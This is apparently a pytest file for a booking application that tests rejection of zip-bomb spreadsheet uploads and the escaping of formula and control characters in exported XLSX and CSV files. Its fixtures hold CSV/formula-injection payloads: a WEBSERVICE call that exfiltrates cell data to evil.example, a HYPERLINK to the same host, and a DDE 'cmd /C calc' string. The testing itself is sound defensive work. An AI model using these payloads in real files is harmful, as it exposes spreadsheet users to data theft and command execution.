"""Hostile files both ways: uploads read with hard limits (a clear form error, nothing
stored), and every spreadsheet or CSV the app writes free of formulas and control characters,
whatever staff or the public typed."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from booking.errors import BookingError
from booking.models import Booking, BookingState, Role
from booking.models.db import db
from booking.render.cells import safe_cell
from booking.rules import attendee_xlsx
from booking.rules.attendee_files import parse_attendee_file
from tests.fixtures.factories import past_open_day
from tests.fixtures.upload_bombs import (
    BOMBS,
    huge_shared_strings,
    many_cells,
    names_sheet,
    wide_sheet,
)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=WEBSERVICE("http://evil.example/?"&C7)'


def _form(**overrides) -> dict:
    data = {"organisation_name": "开州区汉丰街道党工委", "organisation_kind": "party_organisation",
            "contact_name": "王建国", "contact_phone": "13812341234", "party_size": "12",
            "consent": "y"}
    data.update(overrides)
    return data


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_upload_bombs_get_a_form_error_and_book_nothing(client, create_slot, bomb):
    slot = create_slot()
    filename, build = BOMBS[bomb]
    response = client.post(f"/slots/{slot.id}/book", content_type="multipart/form-data",
                           data=_form(attendee_file=(io.BytesIO(build()), filename)))
    assert response.status_code == 422
    assert 'id="attendee_file-error"' in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Booking)) == 0


@pytest.mark.parametrize(("build", "message"), [
    (wide_sheet, "列数过多"), (many_cells, "单元格过多"), (huge_shared_strings, "文字过多")])
def test_streaming_limits_hold_when_the_directory_checks_would_let_a_part_through(
        app, monkeypatch, build, message):
    # The counters, not only the zip directory checks, stop a parse.
    monkeypatch.setattr(attendee_xlsx, "MAX_RATIO", 10**9)
    monkeypatch.setattr(attendee_xlsx, "MAX_PART_BYTES", 10**9)
    with pytest.raises(BookingError) as refused:
        parse_attendee_file("bomb.xlsx", build())
    assert message in str(refused.value.message)


def test_an_ordinary_sheet_still_reads(app):
    assert parse_attendee_file("a.xlsx", names_sheet(["姓名", "王晓红", "李建国"])) == [
        "王晓红", "李建国"]


def test_safe_cell_escapes_formula_starts_and_drops_control_characters():
    assert safe_cell("=1+1") == "'=1+1"
    for start in FORMULA_START:
        assert safe_cell(start + "x").startswith("'")
    assert safe_cell("王\x01建\x1f国") == "王建国"
    assert safe_cell(12) == 12 and safe_cell(None) is None
    assert safe_cell("汉丰街道") == "汉丰街道"


@pytest.fixture
def hostile_day(create_venue, create_slot, create_booking, create_user, login, client):
    venue = create_venue("LBC", name="=HYPERLINK(\"http://evil.example\")")
    day = past_open_day()
    slot = create_slot(venue, day=day, title="+cmd|' /C calc'!A0", programme="p", kind="party_day")
    booking, _ = create_booking(slot, party_size=12, organisation_name=HOSTILE_NAME,
                                contact_name="王\x01建国", notes="@SUM(A1)\r\n-2+3",
                                now=slot.starts_at - timedelta(days=10))
    booking.state = BookingState.COMPLETED
    booking.arrived_count = 12
    db.session.commit()
    login(create_user("reporter", Role.STAFF))
    return venue, day


def _cells_of_xlsx(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(values):
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START), value
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", value), value


def test_no_export_contains_a_formula_or_a_control_character(client, hostile_day):
    venue, day = hostile_day
    roster = client.get(f"/staff/roster/{venue.code}/{day.isoformat()}.xlsx")
    assert roster.status_code == 200
    cells = list(_cells_of_xlsx(roster.data))
    assert all(cell.data_type != "f" for cell in cells)
    _assert_no_formula(cell.value for cell in cells)
    assert "'" + HOSTILE_NAME in [cell.value for cell in cells]

    query = {"start": (day - timedelta(days=3)).isoformat(),
             "end": (day + timedelta(days=3)).isoformat()}
    stats_xlsx = client.get("/staff/statistics.xlsx", query_string=query)
    assert stats_xlsx.status_code == 200
    cells = list(_cells_of_xlsx(stats_xlsx.data))
    assert all(cell.data_type != "f" for cell in cells)
    _assert_no_formula(cell.value for cell in cells)

    stats_csv = client.get("/staff/statistics.csv", query_string=query)
    assert stats_csv.status_code == 200
    rows = list(csv.reader(io.StringIO(stats_csv.data.decode("utf-8-sig"))))
    assert any("=HYPERLINK" in field for row in rows for field in row)   # it is there, escaped
    _assert_no_formula(field for row in rows for field in row)
